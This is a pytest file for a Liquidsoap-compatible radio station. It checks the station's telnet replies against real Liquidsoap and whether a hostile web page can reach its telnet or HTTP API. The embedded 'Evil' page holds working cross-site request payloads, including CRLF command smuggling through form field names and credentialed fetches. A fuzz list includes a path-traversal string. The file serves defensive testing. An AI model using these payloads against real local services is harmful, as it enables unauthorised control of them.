"""The doors as others use them: telnet by a panel's client, beside a real Liquidsoap; and web pages that try to get in."""

import base64
import http.client
import json
import re
import socket
import subprocess
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from benchmarks.processes import free_port
from benchmarks.station import RunningStation

pytestmark = pytest.mark.timeout(90)

OURS = """lss 1
admin("right", user="admin")
telnet(port=%d)
volume = ref(0.5)
wishes = request.queue()
radio = fallback([wishes, tone()])
on.track(radio, fun (track) -> log("#{volume()}"))
mount("/radio.mp3", radio, mp3(), latency=1s)
files("/panel", "panel/")
"""

THEIRS = """settings.server.telnet.set(true)
settings.server.telnet.port.set(%d)
settings.init.allow_root.set(true)
volume = interactive.float("volume", 0.5)
wishes = request.queue(id="wishes")
radio = fallback(id="radio", track_sensitive=false, [wishes, sine()])
output.dummy(id="out", fallible=true, amplify(volume, radio))
"""

LINES = (
    "uptime", "version", "wishes.push /no/such.mp3", "var.set volume=0.25", "var.get volume", "var.list", "no.such",
)  # fmt: skip

SHAPES = (
    r"\d+d \d\dh \d\dm \d\ds", r"\w+ .+", r"\d+", r"Variable volume set.*\.", r"0\.250?",
    r"volume : float", r"ERROR: .+",
)  # fmt: skip


class Panel:
    """A panel's client: it sends lines, all at once if it likes, and reads each answer up to END."""

    def __init__(self, port, seconds=30.0):
        deadline = time.monotonic() + seconds
        while True:
            try:
                self._socket = socket.create_connection(("127.0.0.1", port), 10)
                break
            except ConnectionRefusedError:
                assert time.monotonic() < deadline
                time.sleep(0.1)
        self._lines = self._socket.makefile("rb")

    def __enter__(self):
        return self

    def __exit__(self, *fault):
        self._lines.close()
        self._socket.close()

    def ask(self, *lines):
        self._socket.sendall("".join(f"{line}\r\n" for line in lines).encode())
        return [self._answer() for _ in lines]

    def leave(self, word):
        """What is said in the end; the connection is closed then."""
        self._socket.sendall(f"{word}\n".encode())
        return self._lines.read().decode().strip()

    def _answer(self):
        found = []
        while (line := self._lines.readline().decode().rstrip("\r\n")) != "END":
            found.append(line)
        return "\n".join(found)


def asked(port, *lines):
    with Panel(port) as panel:
        return panel.ask(*lines)


def left(port, word):
    with Panel(port) as panel:
        return panel.leave(word)


@pytest.fixture(scope="module")
def ours(tmp_path_factory):
    script, port = tmp_path_factory.mktemp("doors") / "station.lss", free_port()
    script.write_text(OURS % port)
    with RunningStation(script, ["--edges", "1"], air=["/radio.mp3"]) as running:
        running.telnet = port
        yield running


@pytest.fixture(scope="module")
def theirs(need, tmp_path_factory):
    need("liquidsoap")
    script, port = tmp_path_factory.mktemp("liquidsoap") / "radio.liq", free_port()
    script.write_text(THEIRS % port)
    with subprocess.Popen(
        ["liquidsoap", str(script)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    ) as running:
        yield port
        running.kill()


class TestAPanel:
    def test_is_answered_as_by_liquidsoap(self, ours, theirs):
        for port in (theirs, ours.telnet):
            said = asked(port, *LINES)

            assert [
                line for line, shape in zip(said, SHAPES, strict=True) if not re.fullmatch(shape, line)
            ] == []

    def test_skips_and_reads_what_plays(self, ours):
        first, skipped, after = asked(ours.telnet, "radio.metadata", "radio.skip", "radio.remaining")

        assert first == '--- 1 ---\ntitle="440 Hz"'
        assert skipped
        assert after == "(undef)"

    @pytest.mark.parametrize("word", ["exit", "quit"])
    def test_leaves(self, ours, theirs, word):
        assert [left(port, word) for port in (theirs, ours.telnet)] == ["Bye!", "Bye!"]

    def test_is_told_in_help_of_what_there_is(self, ours):
        (told,) = asked(ours.telnet, "help")

        assert {"skip", "var.set", "uptime"} <= {line.split()[0] for line in told.split("\n")}


PAGE = """<!doctype html><title>Evil</title><iframe name=hole></iframe><script>
const telnet = "http://127.0.0.1:%(telnet)d/", api = "http://127.0.0.1:%(http)d/api/v1/", said = {};
const line = "log.level debug\\r\\n", json = '{"level": "debug"}';
const tries = {
  telnetPost: () => fetch(telnet, {method: "POST", mode: "no-cors", body: line.repeat(3)}),
  telnetGet: () => fetch(telnet + "log.level%%20debug", {mode: "no-cors"}),
  telnetSocket: () => opened(new WebSocket("ws://127.0.0.1:%(telnet)d/")),
  telnetForm: () => form(telnet),
  telnetImage: () => shown(telnet),
  apiRead: () => fetch(api + "commands/status", {credentials: "include"}),
  apiText: () => fetch(api + "commands/log.level", {method: "POST", mode: "no-cors", credentials: "include", body: json}),
  apiJson: () => fetch(api + "commands/log.level",
    {method: "POST", credentials: "include", headers: {"Content-Type": "application/json"}, body: json}),
  apiForm: () => form(api + "commands/log.level"),
  apiSocket: () => opened(new WebSocket("ws://127.0.0.1:%(http)d/api/v1/socket")),
};
const opened = socket => new Promise((done, fail) => { socket.onopen = () => done("open"); socket.onerror = fail; });
const shown = url => new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail; i.src = url; });
function form(url) {
  const f = document.createElement("form");
  Object.assign(f, {action: url, method: "POST", enctype: "text/plain", target: "hole"});
  const field = document.createElement("input");
  Object.assign(field, {name: "x\\r\\nlog.level debug\\r\\n", value: json});
  f.append(field); document.body.append(f); f.submit();
  return new Promise(done => setTimeout(() => done("sent"), 500));
}
async function main() {
  window.open("http://admin:right@127.0.0.1:%(http)d/api/v1/commands/version");
  await new Promise(done => setTimeout(done, 1500));
  for (const [name, attempt] of Object.entries(tries)) {
    const late = new Promise((_, fail) => setTimeout(() => fail("late"), 3000));
    said[name] = await Promise.race([attempt(), late])
      .then(a => a && a.type !== "opaque" && a.ok ? "read" : "done", () => "refused");
  }
  await fetch("%(told)s", {method: "POST", mode: "no-cors", body: JSON.stringify(said)});
}
main();
</script>"""


READ_AT_HOME = ("apiRead", "apiJson", "apiSocket")
"""What the station's own pages may do."""


class EvilSite:
    """Gives its page, and keeps what it tells."""

    def __init__(self, **ports):
        self.told = None
        self._done = threading.Event()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(site.page.encode())

            def do_POST(self):
                site.told = self.rfile.read(int(self.headers["Content-Length"])).decode()
                self.send_response(204)
                self.end_headers()
                site._done.set()

            def log_message(self, *words):
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.page = PAGE % {**ports, "told": f"http://127.0.0.1:{self._server.server_address[1]}/told"}
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        self.url = f"http://evil.example:{self._server.server_address[1]}/"

    def shown(self, folder, url):
        """What the page could do, opened in a browser at an address."""
        with subprocess.Popen(
            chromium(folder, url), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        ) as browser:
            assert self._done.wait(60)
            browser.terminate()
        return json.loads(self.told)

    def __enter__(self):
        return self

    def __exit__(self, *fault):
        self._server.shutdown()
        self._server.server_close()


def chromium(folder, *words):
    options = (
        "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-popup-blocking", "--no-first-run",
        "--host-resolver-rules=MAP evil.example 127.0.0.1", f"--user-data-dir={folder}",
    )  # fmt: skip
    return ["chromium", *options, *words]


class TestAWebPage:
    def test_reaches_neither_telnet_nor_the_api_even_with_a_password_that_the_browser_knows(
        self, need, ours, tmp_path
    ):
        need("chromium")
        with EvilSite(telnet=ours.telnet, http=ours.port) as site:
            told = site.shown(tmp_path, site.url)

        assert "read" not in told.values()
        assert [told[name] for name in READ_AT_HOME] == ["refused", "refused", "refused"]
        assert told["telnetSocket"] == "refused"
        assert asked(ours.telnet, "log.level") == ["info"]
        assert not [line for line in ours.lines if "level='debug'" in line]

    def test_of_the_stations_own_site_does_what_others_may_not(self, need, ours, tmp_path):
        """The very same page: what others are refused is refused by the station, and not by a mistake in the page."""
        need("chromium")
        with EvilSite(telnet=ours.telnet, http=ours.port) as site:
            panel = ours.path.parent / "panel"
            panel.mkdir()
            (panel / "page.html").write_text(site.page)
            told = site.shown(tmp_path, f"http://127.0.0.1:{ours.port}/panel/page.html")
        changed = asked(ours.telnet, "log.level", "log.level info")

        assert [told[name] for name in READ_AT_HOME] == ["read", "read", "done"]
        assert changed == ["debug", "info"]
        assert told["telnetSocket"] == "refused"

    def test_of_a_name_that_leads_here_is_nobody(self, need, ours, tmp_path):
        need("chromium")
        address = f"http://evil.example:{ours.port}/api/v1/commands/status"
        shown = subprocess.run(
            chromium(tmp_path, "--dump-dom", address), capture_output=True, text=True, timeout=60, check=False
        )

        assert "this needs an account" in shown.stdout or "ERR_INVALID_AUTH_CREDENTIALS" in shown.stderr


HOSTILE = (
    "", "x" * 5000, "\ud800", "\x1b[2J\x9b", "../../etc/passwd", -1, 10**30, "nan", True, None, ["radio"], "radio",
    'annotate:title="', "#{volume()}",
)  # fmt: skip
"""What a panel with a mistake in it sends, or somebody who looks for one in the station."""

ENDING = ("shutdown", "restart", "reload", "script.add", "script.drop", "script.forget")
"""Commands that end what the other tests need, or read the whole script each time."""


class TestEveryCommand:
    def test_withstands_whatever_it_is_given(self, ours):
        """The last one here: it leaves titles, gains and requests behind."""
        asked = http.client.HTTPConnection("127.0.0.1", ours.port, timeout=30)
        login = base64.b64encode(b"admin:right").decode()
        headers = {"Authorization": f"Basic {login}", "Content-Type": "application/json"}

        def ask(method, path, body=None):
            asked.request(method, path, body, headers)
            answer = asked.getresponse()
            return answer.status, json.loads(answer.read())

        _, described = ask("GET", "/api/v1/openapi.json")
        failed = []
        for path, methods in described["paths"].items():
            name = path.rpartition("/")[2]
            if "/commands/" not in path or name in ENDING:
                continue
            for value in HOSTILE:
                given = dict.fromkeys(names_of(methods), value)
                status, answer = ask("POST", f"/api/v1/commands/{name}", json.dumps(given))
                failed += [(name, value, answer)] if status >= 500 or not answer else []

        assert failed == []
        assert ask("GET", "/api/v1/commands/status")[0] == 200
        assert not [line for line in ours.lines if "mistake in LegacyStream" in line or "Traceback" in line]


def names_of(methods):
    """The arguments of a command, as its description has them."""
    body = methods["post"].get("requestBody", {"content": {"application/json": {"schema": {}}}})
    return body["content"]["application/json"]["schema"].get("properties", {})
